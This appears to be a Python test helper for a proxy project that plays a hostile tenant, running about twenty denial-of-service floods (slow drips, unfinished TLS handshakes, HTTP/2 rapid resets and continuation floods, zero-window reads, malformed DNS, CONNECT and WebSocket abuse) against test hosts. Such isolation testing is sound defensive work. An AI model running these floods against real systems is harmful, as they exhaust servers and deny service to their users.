"""What a tenant does to starve its neighbours: `python -c TEXT NAME SECONDS` in its namespace, NAME one of FLOODS.

Must not import anything of Hutch: a test passes its text. Stands alone, sends raw bytes, and ends by itself.
"""

from __future__ import annotations

import contextlib
import functools
import itertools
import os
import random
import resource
import select
import socket
import ssl
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator

HOST, PROXY = "up.test", ("198.18.0.1", 8080)
GET = b"GET / HTTP/1.1\r\nHost: up.test\r\n\r\n"
UPGRADE = (
    b"GET /swallow HTTP/1.1\r\nHost: up.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
STARTED = time.monotonic()
THREADS = 24  # connections that one flood keeps busy
Pieces = Iterator[bytes]
done: Counter[str] = Counter()  # what came of it


# ── connections ──────────────────────────────────────────────────────────────────────────────────────────────────────


def left() -> float:
    return max(0.0, STARTED + float(sys.argv[2]) - time.monotonic())


@functools.cache
def address() -> str:
    return socket.gethostbyname(HOST)


def connect(port: int = 443, host: str = HOST, small: bool = False) -> socket.socket:
    sock = socket.socket()
    sock.settimeout(3)
    if small:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.connect((address() if host == HOST else host, port))
    return sock


def tls(alpn: str, small: bool = False) -> ssl.SSLSocket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    return context.wrap_socket(connect(small=small), server_hostname=HOST)


def pump(sock: socket.socket, pieces: Pieces, every: float = 0.0) -> None:
    """Send the pieces, read whatever comes, until either has an end or the time is over."""
    sock.setblocking(False)
    data = b""
    while left():
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            while sock.recv(65_536):
                pass
            return  # the end
        if not (data := data or next(pieces, b"")):
            return
        try:
            sent = sock.send(data)
            done["bytes"] += sent
            data = data[sent:]
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            select.select([sock], [sock], [], 0.1)
        if every and not data:
            time.sleep(min(every, left()))


def many(one: Callable[[], None], count: int = THREADS) -> None:
    """So many at once, each again and again."""

    def again() -> None:
        while left():
            try:
                one()
                done["ended"] += 1
            except OSError as error:
                done[type(error).__name__] += 1
                time.sleep(0.02)

    threads = [threading.Thread(target=again) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def each_in_turn(*kinds: Callable[[], None]) -> Callable[[], None]:
    turns = itertools.cycle(kinds)

    def one() -> None:
        next(turns)()

    return one


def flood(opened: Callable[[], socket.socket], pieces: Callable[[], Pieces], every: float = 0.0) -> Callable[[], None]:
    def one() -> None:
        with opened() as sock:
            pump(sock, pieces(), every)

    return one


# ── HTTP/2 ───────────────────────────────────────────────────────────────────────────────────────────────────────────


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
# GET or POST https://up.test/, without a table: literals that name a static entry. And what is refused: else it is the
# test's own server that is flooded.
HEAD, POST = (method + b"\x87\x84\x01\x07up.test" for method in (b"\x82", b"\x83"))
REFUSED = b"\x82\x87\x84\x01\x09evil.test"
NO_WINDOW = PREFACE + frame(SETTINGS, 0, 0, b"\0\4" + bytes(4))
CANCEL = bytes((0, 0, 0, 8))


def path(text: bytes) -> bytes:
    return b"\x82\x87\x01\x07up.test\x04" + bytes([len(text)]) + text


def http2(start: bytes, *shape: Callable[[int], bytes], batch: int = 500) -> Callable[[], None]:
    """The same shape for stream after stream, as fast as it goes."""

    def pieces() -> Pieces:
        yield start
        streams = itertools.count(1, 2)
        while True:
            yield b"".join(part(stream) for stream in itertools.islice(streams, batch) for part in shape)

    return flood(lambda: tls("h2"), pieces)


def opening(head: bytes, flags: int = 5) -> Callable[[int], bytes]:
    return lambda stream: frame(HEADERS, flags, stream, head)


def same(data: bytes) -> Callable[[int], bytes]:
    return lambda stream: data


# ── the floods ───────────────────────────────────────────────────────────────────────────────────────────────────────


def idle() -> None:
    """Connections, opened and left."""
    held: list[socket.socket] = []
    with contextlib.ExitStack() as stack:
        for number in range(3000):
            if not left():
                break
            with contextlib.suppress(OSError):
                held.append(stack.enter_context(connect((80, 443, 8080)[number % 3])))
                done["opened"] += 1
        time.sleep(left())


def churn() -> None:
    many(lambda: connect().close())


def drip() -> None:
    """A byte a second: of a hello, of a head, of a preface, of a body; and hellos that nothing follows."""
    hello = hello_bytes()

    def bytewise(data: bytes) -> Pieces:
        return (data[at : at + 1] for at in range(len(data)))

    def upload() -> Pieces:
        return itertools.chain(
            [b"POST / HTTP/1.1\r\nHost: up.test\r\nContent-Length: 999\r\n\r\n"], bytewise(b"x" * 999)
        )

    slow = [
        flood(lambda: connect(443), lambda: bytewise(hello), 1),
        flood(lambda: connect(80), lambda: bytewise(GET * 9), 1),
        flood(lambda: tls("h2"), lambda: bytewise(PREFACE), 1),
        flood(lambda: connect(80), upload, 1),
        flood(lambda: connect(443), lambda: iter([hello, *[b""] * 99]), 1),
        flood(lambda: connect(443), lambda: itertools.chain([hello], itertools.repeat(b"\x14\3\3\0\1\1")), 1),
    ]
    many(each_in_turn(*slow), 300)


def hello_bytes(host: str = HOST) -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname=host).do_handshake()
    return outgoing.read()


def handshakes(hosts: Iterator[str]) -> None:
    """New connections with TLS that are not finished; a name that may not be reached gets a certificate of its own."""

    def one() -> None:
        host = next(hosts)
        with connect(host=socket.gethostbyname(host)) as sock:
            sock.sendall(hello_bytes(host))
            sock.recv(1)

    many(one)


def garbage() -> None:
    ports, noise = itertools.cycle((80, 443, 8080, 22, 25, 5432, 65_535)), os.urandom(60_000)
    starts = itertools.cycle(
        (b"", b"\x16\3\1\x40\0", b"GET ", GET, b"GET / HTTP/1.1\r\n" + b"a:b\r\n" * 9000, b"\x16\3\1\0\1\1" * 200)
    )

    def one() -> None:
        with connect(next(ports)) as sock:
            pump(sock, iter([next(starts) + noise, noise]))

    many(one)


def slow_readers() -> None:
    """Large downloads, of which nothing is read."""

    def plain() -> None:
        with connect(80, small=True) as sock:
            sock.sendall(GET.replace(b"/ ", b"/bytes/2000000000 "))
            time.sleep(left())

    def second() -> None:
        with tls("h2", small=True) as sock:
            sock.sendall(PREFACE + frame(WINDOW, 0, 0, b"\x7f\0\0\0"))
            for stream in range(1, 20, 2):
                sock.sendall(
                    frame(HEADERS, 5, stream, path(b"/bytes/2000000000")) + frame(WINDOW, 0, stream, b"\x7f\0\0\0")
                )
            time.sleep(left())

    many(each_in_turn(plain, second), 60)


def queries() -> None:
    """DNS: many unique names, malformed ones, large ones."""
    noise = random.Random(1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock, open("/etc/resolv.conf") as config:
        resolver = next(line.split()[1] for line in config if line.startswith("nameserver"))
        sock.connect((resolver, 53))
        sock.setblocking(False)
        for number in itertools.count():
            if number % 64 == 0 and not left():
                return
            label = b"n%d" % number
            query = b"\0\1\1\0\0\1\0\0\0\0\0\0" + bytes([len(label)]) + label + b"\2up\4test\0\0\1\0\1"
            match number % 8:
                case 0:
                    query = noise.randbytes(noise.randrange(600))
                case 1:
                    query = query[: noise.randrange(len(query))] + noise.randbytes(20)
                case 2:
                    query += bytes(1000 * (number % 60))
            with contextlib.suppress(OSError):
                sock.send(query)
                done["sent"] += 1


def connects() -> None:
    """CONNECT, to what is allowed, to what is not, again and again."""
    targets = itertools.cycle(
        ("up.test:443", "evil.test:443", "10.0.0.1:22", "up.test:80", "n.up.test:443", "x" * 9000)
    )

    def one() -> None:
        with connect(8080, PROXY[0]) as sock:
            sock.sendall(f"CONNECT {next(targets)} HTTP/1.1\r\n\r\n".encode())
            sock.recv(100)

    many(one)


def pipelined() -> None:
    """Requests in HTTP/1 without waiting for an answer: good ones, and ones that are refused."""
    refused = GET.replace(b"up.test", b"evil.test")
    batches = itertools.cycle((GET * 1000, refused * 1000))
    many(flood(lambda: connect(80), lambda: itertools.repeat(next(batches))))


def websockets() -> None:
    """Frames without end, pings, fragments of one byte, and one frame of any length."""
    masked = b"\x85\0\0\0\0hello"
    shapes = itertools.cycle((b"\x89" + masked, b"\x81" + masked, b"\x01" + masked, b"\x00\x80\0\0\0\0", b""))

    def one() -> None:
        with connect(80) as sock:
            sock.sendall(UPGRADE)
            if b" 101 " not in sock.recv(4096):
                return
            shape = next(shapes)
            start = shape or b"\x82\xff\x7f\xff\xff\xff\0\0\0\0\0\0\0\0"
            first = b"\x01\x80\0\0\0\0" if shape[:1] == b"\0" else start
            pump(sock, itertools.chain([first], itertools.repeat(shape * 2000 or bytes(60_000))))

    many(one)


FLOODS: dict[str, Callable[[], None]] = {
    "connections left idle": idle,
    "connections opened and closed": churn,
    "a byte a second": drip,
    "unfinished handshakes": lambda: handshakes(itertools.repeat(HOST)),
    "names that may not be reached": lambda: handshakes(map("n{}.evil.test".format, itertools.count())),
    "garbage": garbage,
    "downloads that nobody reads": slow_readers,
    "DNS": queries,
    "CONNECT": connects,
    "pipelined HTTP/1": pipelined,
    "WebSocket frames": websockets,
    "HTTP/2 resets": lambda: many(http2(PREFACE, opening(REFUSED), lambda stream: frame(RESET, 0, stream, CANCEL))),
    "HTTP/2 streams without end": lambda: many(http2(PREFACE, opening(POST, flags=4), batch=100)),
    "HTTP/2 requests": lambda: many(http2(PREFACE, opening(REFUSED), batch=100)),
    "HTTP/2 pings": lambda: many(http2(PREFACE, same(frame(PING, 0, 0, bytes(8))))),
    "HTTP/2 settings": lambda: many(http2(PREFACE, same(frame(SETTINGS, 0, 0)))),
    "HTTP/2 empty data": lambda: many(http2(PREFACE + frame(HEADERS, 4, 1, POST), same(frame(DATA, 0, 1)))),
    "HTTP/2 window updates": lambda: many(http2(PREFACE, same(frame(WINDOW, 0, 0, b"\0\0\0\1")))),
    "HTTP/2 continuations": lambda: many(
        http2(PREFACE + frame(HEADERS, 1, 1, HEAD), same(frame(CONTINUATION, 0, 1, b"\0\1x\1y" * 50)))
    ),
    "HTTP/2 long heads": lambda: many(http2(PREFACE, opening(HEAD + b"\0\1x\1y" * 3000), batch=3)),
    "HTTP/2 windows never opened": lambda: many(http2(NO_WINDOW, opening(path(b"/bytes/2000000000")), batch=100)),
}  # fmt: skip

if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (4_000, 4_000))
    FLOODS[sys.argv[1]]()
    print(dict(done))
